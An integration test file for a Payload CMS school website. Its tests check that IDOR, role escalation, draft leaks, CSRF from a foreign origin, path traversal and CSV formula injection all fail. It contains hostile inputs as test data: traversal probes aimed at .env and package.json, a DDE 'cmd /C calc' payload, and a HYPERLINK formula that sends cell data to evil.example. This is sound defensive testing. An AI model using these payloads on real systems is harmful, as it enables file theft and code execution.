/**
 * Attacks that must keep failing, each sent the way an attacker would send it: through the real
 * route handlers (/api/v1, Payload's REST handler and its mounted route, the notice file route)
 * or the Local API with access enforced. Probes already covered elsewhere are not repeated:
 * - IDOR on /api/v1: another member's profile (update 403, private sections null) and alumni
 *   registrations (403) in tests/int/api/writes.test.ts ("profile calls", "GET registered/alumni");
 *   hostile ids in tests/int/api/fuzz-writes.test.ts; REST reads and writes in tests/int/access.test.ts.
 * - Role escalation: role 10 on /api/v1/register and profile update, status/user_id on
 *   alumni/store (tests/int/api/writes.test.ts); role and status over REST (tests/int/access.test.ts);
 *   faculty_verified and designation over REST and the Local API (tests/int/faculty-verification.test.ts).
 * - Pure drafts by id on /api/v1 news/{id}, news/details/{id}, event/details/{id}
 *   (tests/int/api/content.test.ts) and getNotice (tests/int/notices.test.ts); drafts and versions
 *   over REST (tests/int/staff-door.test.ts).
 * - A member's session cookie from another site on REST (tests/int/accounts.test.ts) and sign-in
 *   CSRF (tests/int/staff-door.test.ts, tests/int/crowds.test.ts).
 * - An oversized JSON body on contact_us/store (tests/int/api/writes.test.ts) and a 5 MB document
 *   upload (tests/int/notices.test.ts); `csvCell` itself (src/collections/EventRegistrations/export-csv.test.ts).
 */
import { writeFileSync } from 'node:fs'
import path from 'node:path'

import config from '@payload-config'
import { Forbidden, handleEndpoints, type Payload } from 'payload'
import { beforeAll, beforeEach, describe, expect, it } from 'vitest'

import { GET as downloadAttachment } from '@/app/(frontend)/notices/[id]/files/[fileId]/route'
import {
  DELETE as restDelete,
  GET as restGet,
  PATCH as restPatch,
} from '@/app/(payload)/api/[...slug]/route'
import { POST as storeAlumni } from '@/app/api/v1/alumni/store/route'
import { GET as eventDetails } from '@/app/api/v1/event/details/[id]/route'
import { GET as newsById } from '@/app/api/v1/news/[id]/route'
import { GET as newsDetails } from '@/app/api/v1/news/details/[id]/route'
import { GET as registeredAlumni } from '@/app/api/v1/registered/alumni/[userId]/route'
import { POST as profileUpdate } from '@/app/api/v1/user/profile/update/[id]/route'
import { listAlumniRegistrationsOf } from '@/features/alumni/queries'
import { getEvent, loadEventPage } from '@/features/events/queries'
import { getNews } from '@/features/news/queries'
import { getNotice } from '@/features/notices/queries'
import { MAX_JSON_BYTES, MAX_MULTIPART_BYTES } from '@/app/api/v1/_shared/api-route'
import { LIMITS } from '@/lib/constants'
import {
  bkashTransactionId,
  buildAdmin,
  buildAlumniRegistration,
  buildAlumniResource,
  buildClass,
  buildContactMessage,
  buildEvent,
  buildEventRegistration,
  buildNews,
  buildNotice,
  buildNoticeCategory,
  buildStudent,
} from '@seed/factories'

import { call, createCast, pngBytes, testPayload } from './api/call'

import { rest, SERVER, type Account } from '../helpers/payload'
import { resetApiRateLimits } from '../helpers/rate-limits'

const quiet = { disableRevalidate: true }
const EVIL = 'https://evil.example'

let payload: Payload
let cast: Awaited<ReturnType<typeof createCast>>
let networkId: number
let categoryId: number

/** The signed-in user object Payload hands access rules, for Local API calls as that account. */
async function asUser(account: Account, collection: 'users' | 'admins' = 'users') {
  if (collection === 'admins') {
    return {
      ...(await payload.findByID({ collection: 'admins', id: account.id })),
      collection: 'admins' as const,
    }
  }
  return {
    ...(await payload.findByID({ collection: 'users', id: account.id })),
    collection: 'users' as const,
  }
}

beforeAll(async () => {
  payload = await testPayload()
  cast = await createCast(payload)
  networkId = (
    await payload.create({
      collection: 'alumni-resources',
      data: buildAlumniResource(),
      context: quiet,
    })
  ).id
  categoryId = (
    await payload.create({
      collection: 'notice-categories',
      data: buildNoticeCategory(),
      context: quiet,
    })
  ).id
})

beforeEach(() => resetApiRateLimits())

describe('IDOR: one member against another', () => {
  it("cannot read another member's alumni registrations through the query the API uses", async () => {
    const theirs = await payload.create({
      collection: 'alumni-registrations',
      data: buildAlumniRegistration(Number(cast.studentA.id), networkId),
    })
    const intruder = await asUser(cast.studentB)
    expect(await listAlumniRegistrationsOf(Number(cast.studentA.id), intruder)).toEqual([])
    // The route answers 403 before the query; the same call from the owner finds it.
    const owner = await asUser(cast.studentA)
    const own = await listAlumniRegistrationsOf(Number(cast.studentA.id), owner)
    expect(own.map((r) => r.id)).toContain(theirs.id)
    for (const userId of [` ${cast.studentA.id}`, `${cast.studentA.id} `]) {
      const res = await call(registeredAlumni, '', {
        params: { userId },
        token: cast.studentB.token,
      })
      expect(res.status, JSON.stringify(userId)).toBe(403)
      expect(JSON.stringify(res.body)).not.toContain(String(theirs.transaction_id))
    }
  })

  it("cannot change, approve or delete another member's alumni registration", async () => {
    const theirs = await payload.create({
      collection: 'alumni-registrations',
      data: buildAlumniRegistration(Number(cast.studentA.id), networkId),
    })
    const intruder = await asUser(cast.studentB)
    const attempts = [
      () =>
        payload.update({
          collection: 'alumni-registrations',
          id: theirs.id,
          data: { status: 'approved', user: Number(cast.studentB.id), name: 'Taken over' },
          overrideAccess: false,
          user: intruder,
        }),
      () =>
        payload.delete({
          collection: 'alumni-registrations',
          id: theirs.id,
          overrideAccess: false,
          user: intruder,
        }),
    ]
    for (const attempt of attempts) await expect(attempt()).rejects.toBeInstanceOf(Forbidden)
    const after = await payload.findByID({ collection: 'alumni-registrations', id: theirs.id })
    expect(after).toMatchObject({ status: 'pending', name: theirs.name })
    expect(typeof after.user === 'object' ? after.user.id : after.user).toBe(cast.studentA.id)
  })

  it("cannot put a picture on another member's profile with a multipart upload", async () => {
    const before = await payload.findByID({ collection: 'users', id: cast.studentA.id, depth: 0 })
    const mediaBefore = await payload.count({ collection: 'media' })
    const form = new FormData()
    form.set('profile_image', new File([await pngBytes()], 'me.png', { type: 'image/png' }))
    const res = await call(profileUpdate, '', {
      method: 'POST',
      token: cast.studentB.token,
      params: { id: String(cast.studentA.id) },
      body: form,
    })
    expect(res.status).toBe(403)
    const after = await payload.findByID({ collection: 'users', id: cast.studentA.id, depth: 0 })
    expect(after.profile_image ?? null).toBe(before.profile_image ?? null)
    expect((await payload.count({ collection: 'media' })).totalDocs).toBe(mediaBefore.totalDocs)
  })
})

describe('role escalation', () => {
  it('a member sending role 10 and staff-only fields as a form to profile update changes none of them', async () => {
    const form = new FormData()
    for (const [key, value] of Object.entries({
      role: '10',
      faculty_verified: 'true',
      designation: 'Principal',
      guardian_consent: 'true',
      first_name: 'Renamed',
    }))
      form.set(key, value)
    const res = await call(profileUpdate, '', {
      method: 'POST',
      token: cast.studentA.token,
      params: { id: String(cast.studentA.id) },
      body: form,
    })
    expect(res.status).toBe(200)
    const stored = await payload.findByID({ collection: 'users', id: cast.studentA.id })
    expect(stored.first_name).toBe('Renamed')
    expect(stored.role).toBe('8')
    expect(stored.designation ?? null).toBeNull()
    expect(stored.faculty_verified ?? false).toBe(false)
    expect(stored.guardian_consent ?? false).toBe(false)
  })

  it('a member sending the payment decision fields to alumni/store stores none of them', async () => {
    const network = await payload.findByID({ collection: 'alumni-resources', id: networkId })
    const res = await call(storeAlumni, '/alumni/store', {
      method: 'POST',
      token: cast.studentB.token,
      body: {
        name: 'Former Student',
        passing_year: '2015',
        degree: 'BSc',
        batch: '2015',
        job_title: 'Engineer',
        current_profession: 'Software',
        company_name: 'Example Ltd',
        email: 'former.student@example.com',
        payment_method: 'Bkash',
        transaction_id: bkashTransactionId(),
        id: networkId,
        status: 'approved',
        amount: '1',
        decision_note: 'Paid in full',
        verified_by: cast.admin.id,
        verified_at: new Date().toISOString(),
      },
    })
    expect(res.status).toBe(201)
    const id = (res.body.data as { id: number }).id
    const stored = await payload.findByID({ collection: 'alumni-registrations', id, depth: 0 })
    expect(stored.status).toBe('pending')
    expect(stored.amount ?? null).not.toBe('1')
    expect(stored.amount ?? null).toBe(network.membership_fee ?? null)
    expect(stored.decision_note ?? null).toBeNull()
    expect(stored.verified_by ?? null).toBeNull()
    expect(stored.verified_at ?? null).toBeNull()
  })

  it('a leadership member (role 10) is still no staff: staff collections stay closed', async () => {
    const leader = await payload.create({
      collection: 'users',
      data: buildStudent({ role: '10' }),
      context: quiet,
    })
    const user = { ...leader, collection: 'users' as const }
    await expect(
      payload.find({ collection: 'contact-messages', overrideAccess: false, user }),
    ).rejects.toBeInstanceOf(Forbidden)
    await expect(
      payload.find({ collection: 'admins', overrideAccess: false, user }),
    ).rejects.toBeInstanceOf(Forbidden)
  })
})

describe('drafts by id', () => {
  it('a draft news item, event or notice is not found through the page queries', async () => {
    const news = await payload.create({
      collection: 'news',
      data: buildNews({ title: 'Unannounced merger', _status: 'draft' }),
      draft: true,
      context: quiet,
    })
    const event = await payload.create({
      collection: 'events',
      data: buildEvent({ name: 'Unannounced fair', _status: 'draft' }),
      draft: true,
      context: quiet,
    })
    expect(await getNews(news.id)).toBeNull()
    expect(await getEvent(event.id)).toBeNull()
    expect(await getEvent(event.id, 'Event')).toBeNull()
    expect(await loadEventPage(event.id)).toBeNull()
    // Asking for the draft by name in the address changes nothing, signed in or not.
    for (const [handler, id] of [
      [newsById, news.id],
      [newsDetails, news.id],
      [eventDetails, event.id],
    ] as const) {
      const res = await call(handler, `/x/${id}?draft=true`, {
        params: { id: String(id) },
        token: cast.studentA.token,
      })
      expect(res.status).toBe(404)
      expect(JSON.stringify(res.body)).not.toContain('Unannounced')
    }
  })

  it('unpublished edits of a published item stay hidden: the published text is served', async () => {
    const news = await payload.create({
      collection: 'news',
      data: buildNews({ title: 'Sports day moved' }),
      context: quiet,
    })
    await payload.update({
      collection: 'news',
      id: news.id,
      data: { title: 'Secret revision: sports day cancelled' },
      draft: true,
      context: quiet,
    })
    const event = await payload.create({
      collection: 'events',
      data: buildEvent({ name: 'Open day' }),
      context: quiet,
    })
    await payload.update({
      collection: 'events',
      id: event.id,
      data: { name: 'Secret revision: open day' },
      draft: true,
      context: quiet,
    })
    const notice = await payload.create({
      collection: 'notices',
      data: buildNotice(categoryId, { title: 'Exam routine' }),
      context: quiet,
    })
    await payload.update({
      collection: 'notices',
      id: notice.id,
      data: { title: 'Secret revision: exam routine' },
      draft: true,
      context: quiet,
    })

    expect((await getNews(news.id))?.title).toBe('Sports day moved')
    expect((await getEvent(event.id))?.name).toBe('Open day')
    expect((await getNotice(notice.id))?.title).toBe('Exam routine')
    for (const [handler, id, title] of [
      [newsById, news.id, 'Sports day moved'],
      [newsDetails, news.id, 'Sports day moved'],
      [eventDetails, event.id, 'Open day'],
    ] as const) {
      const res = await call(handler, `/x/${id}?draft=true`, { params: { id: String(id) } })
      expect(res.status).toBe(200)
      expect(JSON.stringify(res.body)).toContain(title)
      expect(JSON.stringify(res.body)).not.toContain('Secret revision')
    }
  })
})

describe('staff-only collections through the Local API, as a member', () => {
  let seeded: Record<
    'audit-log' | 'contact-messages' | 'admission-inquiries' | 'event-registrations' | 'admins',
    number
  >

  beforeAll(async () => {
    const registration = await payload.create({
      collection: 'alumni-registrations',
      data: buildAlumniRegistration(Number(cast.studentA.id), networkId),
    })
    // An audit entry comes from a staff decision.
    await rest('PATCH', `/alumni-registrations/${registration.id}`, {
      token: cast.admin.token,
      body: { status: 'rejected', decision_note: 'No such transaction' },
    })
    const entry = await payload.find({ collection: 'audit-log', limit: 1 })
    const inquiryClass = (
      await payload.create({ collection: 'classes', data: buildClass(), context: quiet })
    ).id
    const event = await payload.create({ collection: 'events', data: buildEvent(), context: quiet })
    seeded = {
      'audit-log': entry.docs[0]!.id,
      'contact-messages': (
        await payload.create({ collection: 'contact-messages', data: buildContactMessage() })
      ).id,
      'admission-inquiries': (
        await payload.create({
          collection: 'admission-inquiries',
          data: {
            student_name: 'Private Child',
            class_sought: inquiryClass,
            guardian_name: 'Private Guardian',
            phone: '01711000000',
          },
        })
      ).id,
      'event-registrations': (
        await payload.create({
          collection: 'event-registrations',
          data: buildEventRegistration(Number(event.id)),
        })
      ).id,
      admins: Number(cast.editor.id),
    }
  })

  it.each([
    'audit-log',
    'contact-messages',
    'admission-inquiries',
    'event-registrations',
    'admins',
  ] as const)('%s: read, count, update and delete are refused', async (collection) => {
    const before = await payload.findByID({ collection, id: seeded[collection], depth: 0 })
    for (const account of [cast.studentA, cast.teacher]) {
      const user = await asUser(account)
      const attempts: [string, () => Promise<unknown>][] = [
        ['find', () => payload.find({ collection, overrideAccess: false, user })],
        ['count', () => payload.count({ collection, overrideAccess: false, user })],
        [
          'findByID',
          () =>
            payload.findByID({ collection, id: seeded[collection], overrideAccess: false, user }),
        ],
        // Ids of members and staff come from separate tables: a member's own number opens nothing.
        [
          'findByID (own id)',
          () => payload.findByID({ collection, id: account.id, overrideAccess: false, user }),
        ],
        [
          'update',
          () =>
            payload.update({
              collection,
              id: seeded[collection],
              data: { status: 'spam', role: 'admin', summary: 'x' } as never,
              overrideAccess: false,
              user,
            }),
        ],
        [
          'update where',
          () =>
            payload.update({
              collection,
              where: { id: { exists: true } },
              data: { status: 'spam', role: 'admin', summary: 'x' } as never,
              overrideAccess: false,
              user,
            }),
        ],
        [
          'delete',
          () => payload.delete({ collection, id: seeded[collection], overrideAccess: false, user }),
        ],
      ]
      for (const [name, attempt] of attempts) {
        await expect(attempt(), `${account.email} ${name}`).rejects.toBeInstanceOf(Forbidden)
      }
    }
    const after = await payload.findByID({ collection, id: seeded[collection], depth: 0 })
    expect(after).toEqual(before)
  })

  it.each(['audit-log', 'event-registrations', 'admins'] as const)(
    '%s: a member cannot create one',
    async (collection) => {
      const event = await payload.create({
        collection: 'events',
        data: buildEvent(),
        context: quiet,
      })
      const data = {
        'audit-log': { actor_email: 'x@example.com', action: 'update', summary: 'Forged' },
        'event-registrations': buildEventRegistration(Number(event.id)),
        admins: buildAdmin({ roles: ['admin'] }),
      }[collection]
      const countBefore = (await payload.count({ collection })).totalDocs
      await expect(
        payload.create({
          collection,
          data: data as never,
          overrideAccess: false,
          user: await asUser(cast.studentA),
        }),
      ).rejects.toBeInstanceOf(Forbidden)
      expect((await payload.count({ collection })).totalDocs).toBe(countBefore)
    },
  )
})

describe("CSRF on Payload's REST API: a staff session cookie sent from another site", () => {
  const cookieOf = (account: Account) => `payload-token=${account.token}`

  it('is honoured from the site itself, so the refusals below are the origin check', async () => {
    const res = await rest<{ docs: unknown[] }>('GET', '/contact-messages', {
      headers: { cookie: cookieOf(cast.office), origin: SERVER },
    })
    expect(res.status).toBe(200)
    expect(res.body.docs.length).toBeGreaterThan(0)
  })

  it('is ignored on reads from a foreign, null or look-alike origin: the request is anonymous', async () => {
    for (const origin of [EVIL, 'null', `${SERVER}.evil.example`]) {
      const res = await rest('GET', '/contact-messages', {
        headers: { cookie: cookieOf(cast.office), origin },
      })
      expect(res.status, origin).toBe(403)
      expect(res.body.docs, origin).toBeUndefined()
      const me = await rest<{ user: unknown }>('GET', '/admins/me', {
        headers: { cookie: cookieOf(cast.editor), origin },
      })
      expect(me.body.user ?? null, origin).toBeNull()
    }
  })

  it('cannot delete, change or create anything', async () => {
    const message = await payload.create({
      collection: 'contact-messages',
      data: buildContactMessage(),
    })
    const headers = { cookie: cookieOf(cast.admin), origin: EVIL }
    expect((await rest('DELETE', `/contact-messages/${message.id}`, { headers })).status).toBe(403)
    const patched = await rest('PATCH', `/contact-messages/${message.id}`, {
      headers,
      body: { status: 'replied' },
    })
    expect(patched.status).toBe(403)
    const title = `Posted from elsewhere ${Date.now()}`
    const created = await rest('POST', '/news', { headers, body: buildNews({ title }) })
    expect(created.status).toBe(403)
    const promoted = await rest('PATCH', `/admins/${cast.editor.id}`, {
      headers,
      body: { roles: ['admin'] },
    })
    expect(promoted.status).toBe(403)

    const after = await payload.findByID({ collection: 'contact-messages', id: message.id })
    expect(after.status).toBe(message.status)
    const news = await payload.find({ collection: 'news', where: { title: { equals: title } } })
    expect(news.totalDocs).toBe(0)
    const editor = await payload.findByID({ collection: 'admins', id: cast.editor.id })
    expect(editor.roles).toEqual(['editor'])
  })

  it('is refused at the mounted route too, by Origin or by Sec-Fetch-Site alone', async () => {
    const message = await payload.create({
      collection: 'contact-messages',
      data: buildContactMessage(),
    })
    const mounted = (
      handler: typeof restGet,
      method: string,
      slug: string[],
      headers: Record<string, string>,
      body?: unknown,
    ) =>
      handler(
        new Request(`${SERVER}/api/${slug.join('/')}`, {
          method,
          headers: {
            'x-socket-address': '203.0.113.90',
            cookie: cookieOf(cast.admin),
            ...(body === undefined ? {} : { 'content-type': 'application/json' }),
            ...headers,
          },
          body: body === undefined ? undefined : JSON.stringify(body),
        }),
        { params: Promise.resolve({ slug }) },
      )
    const slug = ['contact-messages', String(message.id)]
    const crossSite: Record<string, string>[] = [
      { origin: EVIL },
      { 'sec-fetch-site': 'cross-site' },
    ]
    for (const headers of crossSite) {
      const label = JSON.stringify(headers)
      expect((await mounted(restDelete, 'DELETE', slug, headers)).status, label).toBe(403)
      const patched = await mounted(restPatch, 'PATCH', slug, headers, { status: 'replied' })
      expect(patched.status, label).toBe(403)
    }
    const read = await mounted(restGet, 'GET', ['contact-messages'], { origin: EVIL })
    expect(read.status).toBe(403)
    expect(await read.text()).not.toContain(message.email)
    const after = await payload.findByID({ collection: 'contact-messages', id: message.id })
    expect(after.status).toBe(message.status)
  })

  it("a member's cookie from another site cannot change their profile through /api/v1", async () => {
    const before = await payload.findByID({ collection: 'users', id: cast.studentB.id })
    const res = await call(profileUpdate, '', {
      method: 'POST',
      params: { id: String(cast.studentB.id) },
      headers: { cookie: cookieOf(cast.studentB), origin: EVIL },
      body: { first_name: 'Forged' },
    })
    expect(res.status).toBe(403)
    const after = await payload.findByID({ collection: 'users', id: cast.studentB.id })
    expect(after.first_name).toBe(before.first_name)
  })
})

describe('path traversal on the file routes', () => {
  const CANARY = 'canary-secret-6f1e2b'
  let filesDir: string
  let mediaFile: string
  let repoPackage: string

  beforeAll(async () => {
    const mediaDir = path.resolve(process.env.MEDIA_DIR!)
    filesDir = path.dirname(mediaDir)
    writeFileSync(path.join(filesDir, 'canary.txt'), CANARY)
    // The repository's own package.json, reached by climbing out of the upload folder.
    repoPackage = path.relative(mediaDir, path.resolve('package.json'))
    const picture = await payload.create({
      collection: 'media',
      data: { alt: 'A picture' },
      file: {
        data: Buffer.from(await pngBytes()),
        mimetype: 'image/png',
        name: 'traversal.png',
        size: 100,
      },
      context: quiet,
    })
    mediaFile = picture.filename!
  })

  const enc = (relative: string) => relative.split('/').map(encodeURIComponent).join('%2F')

  const probes = () => [
    `/media/file/${enc('../canary.txt')}`,
    `/media/file/%2E%2E%2Fcanary.txt`,
    `/media/file/..%5Ccanary.txt`,
    `/media/file/....%2F%2Fcanary.txt`,
    `/media/file/..%252Fcanary.txt`,
    `/media/file/${enc(path.join(filesDir, 'canary.txt'))}`,
    `/media/file/${enc(repoPackage)}`,
    `/media/file/${enc(repoPackage)}%00.png`,
    `/documents/file/${enc(`../media/${mediaFile}`)}`,
    `/documents/file/${enc('../canary.txt')}`,
    `/documents/file/../../.env`,
    `/documents/file/${enc(repoPackage)}`,
  ]

  /** The answer never holds the planted file, the repository's package.json or another folder's picture. */
  async function expectNothingServed(response: Response, label: string) {
    const text = await response.text()
    // 400 invalid name, 403 a `../` in it, 404 no such route; a name that is no file on disk gets
    // Payload's generic 500, which says nothing about the disk.
    expect([400, 403, 404, 500], label).toContain(response.status)
    if (response.status === 500) {
      expect(JSON.parse(text), label).toEqual({ errors: [{ message: 'Something went wrong.' }] })
    }
    expect(text, label).not.toContain(CANARY)
    expect(text, label).not.toContain('"devDependencies"')
    expect(response.headers.get('content-type') ?? '', label).not.toMatch(/^image\//)
  }

  it("through Payload's REST handler, as a visitor and as staff", async () => {
    for (const probe of probes()) {
      for (const token of [undefined, cast.admin.token]) {
        const response = await handleEndpoints({
          config,
          request: new Request(`${SERVER}/api${probe}`, {
            headers: token ? { authorization: `JWT ${token}` } : {},
          }),
        })
        await expectNothingServed(response, `${probe} ${token ? 'staff' : 'visitor'}`)
      }
    }
    // The picture itself is served where it lives, so the probes reach a working route.
    const own = await handleEndpoints({
      config,
      request: new Request(`${SERVER}/api/media/file/${mediaFile}`),
    })
    expect(own.status).toBe(200)
  })

  it('through the mounted route, whose door lets file reads pass without a session', async () => {
    for (const probe of probes()) {
      const url = new URL(`${SERVER}/api${probe}`)
      const slug = url.pathname
        .replace(/^\/api\//, '')
        .split('/')
        .map(decodeURIComponent)
      const response = await restGet(
        new Request(url, { headers: { 'x-socket-address': '203.0.113.91' } }),
        { params: Promise.resolve({ slug }) },
      )
      await expectNothingServed(response, probe)
    }
  })

  it("through a notice's attachment route", async () => {
    const notice = await payload.create({
      collection: 'notices',
      data: buildNotice(categoryId),
      context: quiet,
    })
    for (const fileId of ['../../package.json', '..%2F..%2Fpackage.json', '../canary.txt']) {
      const response = await downloadAttachment(
        new Request(`${SERVER}/notices/${notice.id}/files/x`),
        { params: Promise.resolve({ id: String(notice.id), fileId }) },
      )
      expect(response.status, fileId).toBe(404)
      expect(await response.text(), fileId).not.toContain(CANARY)
    }
  })
})

describe('CSV formula injection in the registrations export', () => {
  /** RFC 4180 cells of a CSV text. */
  function parseCsv(text: string): string[][] {
    const rows: string[][] = []
    let row: string[] = []
    let cell = ''
    let quoted = false
    for (let i = 0; i < text.length; i += 1) {
      const char = text[i]
      if (quoted) {
        if (char === '"' && text[i + 1] === '"') {
          cell += '"'
          i += 1
        } else if (char === '"') quoted = false
        else cell += char
      } else if (char === '"') quoted = true
      else if (char === ',') {
        row.push(cell)
        cell = ''
      } else if (char === '\r' && text[i + 1] === '\n') {
        row.push(cell)
        rows.push(row)
        row = []
        cell = ''
        i += 1
      } else cell += char
    }
    if (cell !== '' || row.length > 0) rows.push([...row, cell])
    return rows
  }

  it('neutralises = + - @ tab and carriage return at the start of every cell a visitor fills', async () => {
    const event = await payload.create({
      collection: 'events',
      data: buildEvent({ name: '=IMPORTXML("https://evil.example","//a")' }),
      context: quiet,
    })
    const payloads = [
      '=HYPERLINK("https://evil.example?x="&A1,"Open")',
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
    ]
    for (const [i, attack] of payloads.entries()) {
      await payload.create({
        collection: 'event-registrations',
        data: buildEventRegistration(Number(event.id), {
          first_name: attack.slice(0, 80),
          last_name: attack.slice(0, 80),
          school: attack,
          studentId: attack.slice(0, 40),
          present_address: `${attack} road ${i}`,
          notes: attack,
          interests: attack,
        }),
      })
    }
    const response = await handleEndpoints({
      config,
      request: new Request(`${SERVER}/api/event-registrations/export?event=${event.id}`, {
        headers: { authorization: `JWT ${cast.office.token}` },
      }),
    })
    expect(response.status).toBe(200)
    const rows = parseCsv((await response.text()).replace(/^\uFEFF/, ''))
    expect(rows).toHaveLength(payloads.length + 1)
    const cells = rows.slice(1).flat()
    const dangerous = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))
    expect(dangerous).toEqual([])
    // Each attack is still there, readable, behind the apostrophe.
    for (const attack of payloads) expect(cells).toContain(`'${attack}`)
    expect(cells).toContain(`'${event.name}`)
  })
})

describe('size limits on /api/v1', () => {
  it('a JSON body over 64 KB to a member call is 413 and changes nothing', async () => {
    const before = await payload.findByID({ collection: 'users', id: cast.teacher.id })
    const res = await call(profileUpdate, '', {
      method: 'POST',
      token: cast.teacher.token,
      params: { id: String(cast.teacher.id) },
      body: JSON.stringify({ first_name: 'Huge', current_school: 'x'.repeat(MAX_JSON_BYTES) }),
    })
    expect(res.status).toBe(413)
    expect(res.body.success).toBe(false)
    const after = await payload.findByID({ collection: 'users', id: cast.teacher.id })
    expect(after.first_name).toBe(before.first_name)
  })

  it('a multipart upload over 6 MB, or a picture over 5 MB, is 413 and stores nothing', async () => {
    const png = await pngBytes()
    const padded = (size: number) => {
      const bytes = new Uint8Array(size)
      bytes.set(png)
      return new File([bytes], 'huge.png', { type: 'image/png' })
    }
    const mediaBefore = (await payload.count({ collection: 'media' })).totalDocs
    for (const size of [MAX_MULTIPART_BYTES + 1024, LIMITS.imageUploadBytes + 1024]) {
      const form = new FormData()
      form.set('profile_image', padded(size))
      const res = await call(profileUpdate, '', {
        method: 'POST',
        token: cast.teacher.token,
        params: { id: String(cast.teacher.id) },
        body: form,
      })
      expect(res.status, String(size)).toBe(413)
    }
    const teacher = await payload.findByID({ collection: 'users', id: cast.teacher.id, depth: 0 })
    expect(teacher.profile_image ?? null).toBeNull()
    expect((await payload.count({ collection: 'media' })).totalDocs).toBe(mediaBefore)
  })
})
